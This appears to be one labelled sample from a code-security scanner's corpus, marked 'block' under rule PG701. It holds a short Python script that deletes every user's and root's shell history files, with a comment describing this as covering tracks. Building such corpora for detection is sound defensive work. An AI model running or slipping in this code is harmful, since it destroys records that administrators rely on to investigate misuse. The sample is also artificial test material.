# pyguard-corpus: verdict=block category=filesystem rules=PG701
# what: removes every user's shell history found with a glob over /home, covering tracks
import glob
import os

for path in glob.glob("/home/*/.*_history") + glob.glob("/root/.*_history"):
    try:
        os.remove(path)
    except OSError:
        pass
